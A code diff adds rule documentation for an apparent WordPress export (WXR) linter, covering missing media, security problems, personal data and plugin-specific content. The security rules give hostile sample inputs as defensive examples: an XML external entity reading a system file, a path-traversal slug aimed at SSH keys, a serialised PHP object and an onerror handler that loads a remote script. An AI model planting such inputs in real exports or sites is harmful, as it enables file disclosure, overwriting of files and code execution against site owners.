@@ -1765,5 +1765,475 @@ extension RulePage {
 
       **Fix.** None.
       """##,
+    "WXR601": ##"""
+      An attachment has no `wp:attachment_url`.
+
+      **Why it matters.** The export holds no files, only their addresses: without one WordPress's
+      importer cannot fetch the file and skips the attachment, and every picture of it is lost.
+
+      **Bad**
+      ```xml
+      <item><title>Pier</title><guid>https://h.example/?attachment_id=8</guid>
+        <wp:post_type>attachment</wp:post_type></item>
+      ```
+      **Good**
+      ```xml
+      <item><title>Pier</title><wp:post_type>attachment</wp:post_type>
+        <wp:attachment_url>https://h.example/wp-content/uploads/2024/05/pier.jpg</wp:attachment_url>
+      </item>
+      ```
+      **What to do.** Look the file up in the site's media library and write its address into the
+      element. Squarespace leaves the address out for some images: save those from the site itself.
+
+      **Fix.** Inferred: the `guid` becomes the address if it is that of a file, else
+      `_wp_attached_file` under the site's uploads folder.
+      """##,
+    "WXR602": ##"""
+      An attachment's `_wp_attached_file` is absolute, leads out of the uploads folder, or names
+      another file than the attachment's URL.
+
+      **Why it matters.** The meta is the file's path below `wp-content/uploads`; WordPress and
+      converters that read media from a copy of that folder look there and find nothing. An absolute
+      path also tells how the old server was built.
+
+      **Bad**
+      ```xml
+      <wp:meta_key>_wp_attached_file</wp:meta_key>
+      <wp:meta_value>C:\inetpub\site\wp-content\uploads\a.jpg</wp:meta_value>
+      ```
+      **Good**
+      ```xml
+      <wp:meta_key>_wp_attached_file</wp:meta_key>
+      <wp:meta_value>2024/05/a.jpg</wp:meta_value>
+      ```
+      **What to do.** Nothing, if media are fetched by their URLs. Else give the path that the file has
+      in the uploads folder. For absolute paths of wordpress.com, which agree with the URL, it is a
+      note.
+
+      **Fix.** Inferred: the path is taken from the URL where that lies in an uploads folder, or from
+      what follows `uploads` in the absolute path.
+      """##,
+    "WXR603": ##"""
+      An item's `_thumbnail_id` is not the id of an image in the export.
+
+      **Why it matters.** The post loses its featured image: on import nothing is shown, or another
+      upload that happens to have the number; a static site lacks the picture in its lists.
+
+      **Bad**
+      ```xml
+      <wp:postmeta><wp:meta_key>_thumbnail_id</wp:meta_key>
+        <wp:meta_value>-1</wp:meta_value></wp:postmeta>
+      ```
+      **Good**
+      ```xml
+      <item><wp:post_id>8</wp:post_id><wp:post_type>attachment</wp:post_type> … </item>
+      <item> … <wp:meta_key>_thumbnail_id</wp:meta_key><wp:meta_value>8</wp:meta_value> … </item>
+      ```
+      **What to do.** Export “All content”: exports of one type leave the media out before WordPress
+      6.8. Where the picture was deleted, give the post another one.
+
+      **Fix.** None: nobody but you knows which picture is meant.
+      """##,
+    "WXR604": ##"""
+      A gallery, a media block or a picture's `wp-image-N` names an upload that is not in the export.
+
+      **Why it matters.** Galleries show what their ids stand for: without the uploads they are empty
+      on import, or show other pictures that got the numbers. A picture whose address still works is
+      shown, yet without its smaller sizes.
+
+      **Bad**
+      ```xml
+      <content:encoded><![CDATA[[gallery ids="4,5,6"]]]></content:encoded>
+      ```
+      **Good**
+      ```xml
+      <item><wp:post_id>4</wp:post_id><wp:post_type>attachment</wp:post_type> … </item>
+      <item><content:encoded><![CDATA[[gallery ids="4"]]]></content:encoded></item>
+      ```
+      **What to do.** Export “All content”, so that the media come along. Ids that the site itself has
+      lost are best taken out of the gallery, or given a new upload.
+
+      **Fix.** None: which picture an id stood for is not in the file.
+      """##,
+    "WXR605": ##"""
+      A file is embedded in a text as a `data:` address of more than 64 KiB.
+
+      **Why it matters.** Such texts make every page and every query of the site slow, importers cut
+      or refuse them, and the file is in no media library. Readers download it with each page anew.
+
+      **Bad**
+      ```xml
+      <content:encoded><![CDATA[<img src="data:image/png;base64,iVBORw0KGgo…(200 KB)">]]></content:encoded>
+      ```
+      **Good**
+      ```xml
+      <content:encoded><![CDATA[<img src="https://h.example/wp-content/uploads/map.png">]]></content:encoded>
+      ```
+      **What to do.** Save the picture as a file, upload it, and put the upload in its place. Small
+      pictures, such as icons of some KB, may stay.
+
+      **Fix.** Lossy: the address is cut out of the text and kept in the report, only with `--lossy`.
+      """##,
+    "WXR606": ##"""
+      Texts use files of an uploads folder that no attachment of the export declares, or that lie on
+      another host.
+
+      **Why it matters.** An importer and a converter fetch what attachments declare. All other files
+      stay where they are: pictures vanish on the day the old site is switched off.
+
+      **Bad**
+      ```xml
+      <content:encoded><![CDATA[<img src="https://old.example/wp-content/uploads/a.jpg">]]></content:encoded>
+      ```
+      **Good**
+      ```xml
+      <item> … <wp:attachment_url>https://h.example/wp-content/uploads/a.jpg</wp:attachment_url></item>
+      <item><content:encoded><![CDATA[<img src="https://h.example/wp-content/uploads/a-300x200.jpg">]]>
+        </content:encoded></item>
+      ```
+      **What to do.** Export the media too, or copy the folder `wp-content/uploads` of each host that
+      is named while it is still there. Each host is told once, with the number of its files.
+
+      **Fix.** None: the files are not in the export.
+      """##,
+    "WXR701": ##"""
+      The file has a DOCTYPE, or declares entities of its own.
+
+      **Why it matters.** No export needs one, and WordPress's importer refuses any file that has it:
+      entities that name each other can fill a computer's memory, and outer ones can read its files.
+
+      **Bad**
+      ```xml
+      <?xml version="1.0" encoding="UTF-8"?>
+      <!DOCTYPE rss [<!ENTITY site "Harbour notes">]>
+      <rss version="2.0">
+      ```
+      **Good**
+      ```xml
+      <?xml version="1.0" encoding="UTF-8"?>
+      <rss version="2.0">
+      ```
+      **What to do.** Ask where the file came from: WordPress does not write a DOCTYPE. Take it out,
+      and write the text of its entities where they are used.
+
+      **Fix.** Lossless where no such entity is used: the DOCTYPE is left out. Entities are never
+      expanded; a reference to one stays as text.
+      """##,
+    "WXR702": ##"""
+      The file wants other files to be loaded: by an outer entity, by XInclude, or by an instruction
+      such as `xml-stylesheet`.
+
+      **Why it matters.** A program that follows such a reference reads files of the computer it runs
+      on, or asks another server for something, at the wish of whoever made the export.
+
+      **Bad**
+      ```xml
+      <?xml-stylesheet type="text/xsl" href="https://other.example/feed.xsl"?>
+      <!DOCTYPE rss [<!ENTITY f SYSTEM "file:///etc/hostname">]>
+      ```
+      **Good**
+      ```xml
+      <?xml version="1.0" encoding="UTF-8"?>
+      <rss version="2.0">
+      ```
+      **What to do.** Take the reference out; if text is missing then, export the site again. A file
+      that you did not export yourself should not be imported before you know why it was there.
+
+      **Fix.** Lossless: declarations and instructions are left out. `wxr` never loads anything.
+      """##,
+    "WXR703": ##"""
+      A slug or a file name would leave the folder that a site is written to.
+
+      **Why it matters.** Converters make file names of slugs and of media addresses. With `..`, a
+      leading slash, a drive letter or a NUL in it, a careless one overwrites other files of yours:
+      that is how such exports attack.
+
+      **Bad**
+      ```xml
+      <wp:post_name>../../.ssh/authorized_keys</wp:post_name>
+      ```
+      **Good**
+      ```xml
+      <wp:post_name>harbour-notes</wp:post_name>
+      ```
+      **What to do.** WordPress never stores such a slug: find out who made the file before you trust
+      the rest of it. A name that only Windows keeps for a device, such as `con` or `nul`, is a warning.
+
+      **Fix.** Inferred: dots and separators are percent-encoded. `wxr` itself writes safe names only.
+      """##,
+    "WXR704": ##"""
+      A meta value holds a serialised PHP object of a named class.
+
+      **Why it matters.** Where PHP reads such a value, it makes an object of that class and may run
+      its code: the usual way to take over a site by an import. Objects of `stdClass`, which page
+      builders store, hold data only and are a note.
+
+      **Bad**
+      ```xml
+      <wp:meta_value><![CDATA[O:12:"My_Gadget_ab":0:{}]]></wp:meta_value>
+      ```
+      **Good**
+      ```xml
+      <wp:meta_value><![CDATA[a:1:{s:5:"width";i:640;}]]></wp:meta_value>
+      ```
+      **What to do.** Look whether a plugin of the site owns the class. If none does, do not import
+      the file; if one does, import only where that plugin is up to date.
+
+      **Fix.** None: without the class nobody knows what the value means. `wxr` never makes objects.
+      """##,
+    "WXR705": ##"""
+      A text holds a script, an event handler, a `javascript:` address or PHP code.
+
+      **Why it matters.** Scripts run in the browser of everyone who opens the page, on the new site
+      and on a static one too; in a comment they are an attack. WordPress strips them when a user who
+      may not write raw HTML imports the file, so the page can look different as well.
+
+      **Bad**
+      ```html
+      <img src="x.png" onerror="load('https://other.example/a.js')">
+      ```
+      **Good**
+      ```html
+      <img src="x.png" alt="The pier">
+      ```
+      **What to do.** Keep what you know, such as a counter or a form that you have put there, and take
+      the rest out. Code that is to be read belongs into a code block, where it is escaped.
+
+      **Fix.** Lossy: scripts, handlers and PHP are cut out, with `--fix WXR705` only.
+      """##,
+    "WXR706": ##"""
+      A text holds a hidden list of links, or markup that known attacks leave behind.
+
+      **Why it matters.** Somebody has broken into the site and uses its good name for others. Search
+      engines punish the site, and with the export the spam moves to the new one.
+
+      **Bad**
+      ```html
+      <div style="display:none"><a href="https://pills.example/a">a</a>
+      <a href="https://pills.example/b">b</a> <a href="https://pills.example/c">c</a> …</div>
+      ```
+      **Good**
+      ```html
+      <div class="links"><a href="https://friends.example">Friends</a></div>
+      ```
+      **What to do.** Take the hidden part out of the post, then look for the hole: change passwords,
+      update plugins, and compare the site's files with fresh ones.
+
+      **Fix.** Lossy: the hidden element is cut out, with `--fix WXR706` only.
+      """##,
+    "WXR707": ##"""
+      The export holds personal data: e-mail and IP addresses, answers of forms, orders.
+
+      **Why it matters.** In many countries the law asks for a reason to keep them and for care in
+      passing them on; none of them is needed to show the site.
+
+      **Bad**
+      ```xml
+      <wp:comment_author_email>ida@mail.example</wp:comment_author_email>
+      <wp:comment_author_IP>192.0.2.7</wp:comment_author_IP>
+      ```
+      **Good**
+      ```xml
+      <wp:comment_author_email></wp:comment_author_email>
+      <wp:comment_author_IP></wp:comment_author_IP>
+      ```
+      **What to do.** Keep the file where only those can read it who may. Before you share it, empty
+      what is not needed. Each kind is told once, with its number and its first place.
+
+      **Fix.** Lossy: addresses are emptied and answers left out, with `--fix WXR707` only.
+      """##,
+    "WXR708": ##"""
+      An item's password stands in the export in clear text.
+
+      **Why it matters.** Whoever gets the file can read the post and its password, which people tend
+      to use elsewhere too. Static sites have no passwords: converted, the post would be open to all.
+
+      **Bad**
+      ```xml
+      <wp:post_password>tulip</wp:post_password>
+      ```
+      **Good**
+      ```xml
+      <wp:post_password></wp:post_password>
+      ```
+      **What to do.** Treat the file as a secret, do not put it into a repository or a ticket, and give
+      the post a new password after the move.
+
+      **Fix.** Lossy: the password is emptied and the item becomes private, with `--fix WXR708` only.
+      Reports never show the password.
+      """##,
+    "WXR709": ##"""
+      A meta value looks like a key, a token, a password of a service, or a private key.
+
+      **Why it matters.** Whoever gets the file can act in the site's name: send mail, read the shop's
+      payments, spend money. Exports land in repositories, tickets and mail.
+
+      **Bad**
+      ```xml
+      <wp:meta_key>_mailer_api_key</wp:meta_key>
+      <wp:meta_value>sk_live_…(24 letters and digits)</wp:meta_value>
+      ```
+      **Good**
+      ```xml
+      <wp:meta_key>_mailer_api_key</wp:meta_key>
+      <wp:meta_value></wp:meta_value>
+      ```
+      **What to do.** Take the key out of the file. If the file has been anywhere else already, make a
+      new key at the service and withdraw the old one.
+
+      **Fix.** Lossy: the value is emptied, with `--fix WXR709` only. Reports never show it.
+      """##,
+    "WXR710": ##"""
+      The export holds what was not written for readers: private or pending items, notes of editors,
+      notes on orders.
+
+      **Why it matters.** Whoever converts or shares the file may publish them unseen. Editors' notes
+      (WordPress 6.9) and notes on orders are comments, which many tools show like any other.
+
+      **Bad**
+      ```xml
+      <wp:comment><wp:comment_content>Ask Ida whether this is true</wp:comment_content>
+        <wp:comment_type>note</wp:comment_type></wp:comment>
+      ```
+      **Good**
+      ```xml
+      <wp:comment><wp:comment_content>Lovely!</wp:comment_content>
+        <wp:comment_type>comment</wp:comment_type></wp:comment>
+      ```
+      **What to do.** Export published posts only if the file is for others, or leave the items and
+      comments out when converting. In a backup they belong.
+
+      **Fix.** Lossy: notes and such items are left out, with `--fix WXR710` only.
+      """##,
+    "WXR801": ##"""
+      Items have a type, or terms a taxonomy, that is not WordPress's own.
+
+      **Why it matters.** WordPress's importer skips items whose type is not registered, and terms of
+      unknown taxonomies: without the plugin or theme they are lost. Each type and taxonomy is told
+      once.
+
+      **Bad**
+      ```xml
+      <wp:post_type>tribe_events</wp:post_type>
+      ```
+      **Good**
+      ```xml
+      <wp:post_type>post</wp:post_type>
+      ```
+      **What to do.** Install and activate the plugin on the new site before you import. For a static
+      site, say what is to become of the type.
+
+      **Fix.** None: the items are sound, the plugin is missing.
+      """##,
+    "WXR802": ##"""
+      The file is not the whole site: it holds one type, or the posts of one category, author or time.
+
+      **Why it matters.** What such items refer to stays behind: pictures, parents, menus, other
+      authors' posts. Many warnings about things that are missing come from it.
+
+      **Bad**
+      ```xml
+      <wp:base_blog_url>https://h.example</wp:base_blog_url>
+      <item> … <category domain="category" nicename="boats">Boats</category>
+        <wp:post_type>post</wp:post_type></item>
+      ```
+      **Good**
+      ```xml
+      <wp:category> … <wp:category_nicename>boats</wp:category_nicename></wp:category>
+      <item> … <category domain="category" nicename="boats">Boats</category>
+        <wp:post_type>post</wp:post_type></item>
+      <item> … <wp:post_type>page</wp:post_type></item>
+      ```
+      **What to do.** Choose “All content” under Tools → Export if you want to move the site. If a part
+      is what you want, all is well.
+
+      **Fix.** None: the rest is not in the file.
+      """##,
+    "WXR803": ##"""
+      Two items have the same title, date and type, so that WordPress's importer takes them for one.
+
+      **Why it matters.** The importer finds the first one and skips the second as “already exists”:
+      its content is lost, only its comments and terms are added to the first.
+
+      **Bad**
+      ```xml
+      <item><title>Untitled</title><wp:post_id>4</wp:post_id>
+        <wp:post_date>2024-05-01 10:00:00</wp:post_date><wp:post_type>post</wp:post_type></item>
+      <item><title>Untitled</title><wp:post_id>5</wp:post_id>
+        <wp:post_date>2024-05-01 10:00:00</wp:post_date><wp:post_type>post</wp:post_type></item>
+      ```
+      **Good**
+      ```xml
+      <item><title>Untitled</title><wp:post_id>4</wp:post_id>
+        <wp:post_date>2024-05-01 10:00:00</wp:post_date><wp:post_type>post</wp:post_type></item>
+      <item><title>Untitled</title><wp:post_id>5</wp:post_id>
+        <wp:post_date>2024-05-01 10:00:01</wp:post_date><wp:post_type>post</wp:post_type></item>
+      ```
+      **What to do.** Give one of them another title or another second, in WordPress or in the file.
+
+      **Fix.** None: which of them may be changed is for you to say. Entries of menus are no such
+      items; items that share their id are told by WXR301.
+      """##,
+    "WXR804": ##"""
+      An address works only where the export was made: it leads to the own computer, to a staging
+      site or to a file, begins with `http:` on a site with `https:`, or has no host.
+
+      **Why it matters.** Readers of the new site get errors, or pictures that browsers block. An
+      address without a host means another page wherever the text is shown elsewhere: in a feed, in
+      a mail, below another folder.
+
+      **Bad**
+      ```html
+      <a href="http://localhost:8080/about">About</a> <img src="file:///C:/pictures/pier.jpg">
+      ```
+      **Good**
+      ```html
+      <a href="https://h.example/about">About</a>
+      ```
+      **What to do.** Let `wp search-replace` (or a plugin that knows serialised values) put the public
+      address in the place of the old one, then export again. Links with `http:` to the site itself and
+      links without a host are told once, with the number of items that have them.
+
+      **Fix.** None: what the address ought to be is not in the file.
+      """##,
+    "WXR805": ##"""
+      The site was multilingual by a plugin that keeps languages in tables of its own, and the file
+      does not say which text has which language.
+
+      **Why it matters.** After an import all languages stand side by side as posts of one language,
+      with slugs such as `about-2`; texts that TranslatePress keeps are not in the file at all.
+
+      **Bad**
+      ```xml
+      <wp:meta_key>_icl_lang_duplicate_of</wp:meta_key><wp:meta_value>12</wp:meta_value>
+      ```
+      **Good**
+      ```xml
+      <wp:meta_key>_wpml_import_language_code</wp:meta_key><wp:meta_value>de</wp:meta_value>
+      ```
+      **What to do.** Add “WPML Export and Import” to the site before you export; with TranslatePress
+      export each language from its own pages. Polylang keeps languages in the export by itself.
+
+      **Fix.** None: the languages are not in the file.
+      """##,
+    "WXR806": ##"""
+      A plugin that the site uses keeps its data in tables of its own, which no WXR export holds.
+
+      **Why it matters.** Forms, sliders, orders or profiles that the pages call for are not in the
+      file: after the move the pages show nothing there, or the bare shortcode.
+
+      **Bad**
+      ```html
+      [gravityform id="2" title="false"]
+      ```
+      **Good**
+      ```html
+      <p>Write to us: <a href="mailto:harbour@h.example">harbour@h.example</a></p>
+      ```
+      **What to do.** Export such data with the plugin's own tool, or move the database. For a static
+      site, put something else in its place. Each plugin is told once.
+
+      **Fix.** None: the data are elsewhere.
+      """##,
   ]
 }
